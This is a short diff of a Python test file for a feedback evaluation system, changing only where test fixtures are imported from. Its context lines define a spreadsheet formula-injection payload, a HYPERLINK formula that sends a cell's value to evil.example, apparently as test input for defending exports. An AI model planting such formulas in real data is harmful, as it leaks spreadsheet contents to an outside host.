@@ -15,7 +15,7 @@ from evalsys.feedback import rubrics
 from evalsys.feedback.columns import COLUMNS
 from evalsys.feedback.models import Feedback
 from evalsys.feedback.writes import submit_feedback
-from tests.feedback.conftest import NOW, TODAY, full_scores
+from tests.fixtures.feedback_world import NOW, TODAY, full_scores
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
